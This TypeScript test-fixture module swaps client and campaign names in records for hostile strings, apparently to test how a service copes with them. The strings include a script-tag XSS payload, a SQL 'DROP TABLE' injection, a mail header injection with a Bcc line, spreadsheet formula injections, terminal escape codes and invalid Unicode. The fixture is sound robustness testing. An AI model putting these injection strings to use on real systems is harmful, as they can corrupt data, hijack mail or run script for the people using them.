import { type AnyRecord, changingRecords, onBoth, type VariantEntry } from '../variant.ts';

/** Names may hold anything: the document says "string" (service.md 2.1, 2.4). */
export const hostileTextVariants = {
  'hostile-text': {
    does: 'three of four names are hard on databases, CSV, HTML, mail and terminals; one of eight is no valid text',
    make: () => onBoth(changingRecords((records) => records.map(withHostileName))),
  },
} satisfies Record<string, VariantEntry>;

/** By id modulo 16: a record keeps its name, and those from 12 on are left alone. */
const HOSTILE: readonly ((name: string) => string)[] = [
  // These two can't be kept in Postgres.
  (name) => `${name}\u0000, past the end`,
  (name) => `\ud83d${name}\udc00\ud800`,
  (name) => `\u202e${name}\u202c\u200f`,
  (name) => name.padEnd(10_000, ' and so on'),
  (name) => `${name}\r\nBcc: everyone@example.com\r\n\r\nHello`,
  (name) => `<script>alert(1)</script><b title="${name}'>&amp;&nbsp;</b>`,
  (name) => `=HYPERLINK("http://example.com/?"&A1;"${name}")`,
  (name) => `\n =1+1 ${name}`,
  (name) => `@SUM(1;2)\t${name}`,
  (name) => `\u0007\u001b[31m${name}\u001b[0m\u007f\u0085\u2028`,
  () => '',
  (name) => `\ufeff"${name}"; 'DROP TABLE clients'; --,"\\"`,
];

/** The name under which `hostile-text` sends a client or campaign. */
export function hostileName(id: number, name: string): string {
  return HOSTILE[id % 16]?.(name) ?? name;
}

function withHostileName(record: AnyRecord): AnyRecord {
  const [id, name] = 'clientid' in record ? ['clientid', 'clientname'] : ['callsetid', 'campaign'];
  return { ...record, [name]: hostileName(Number(record[id]), String(record[name])) };
}
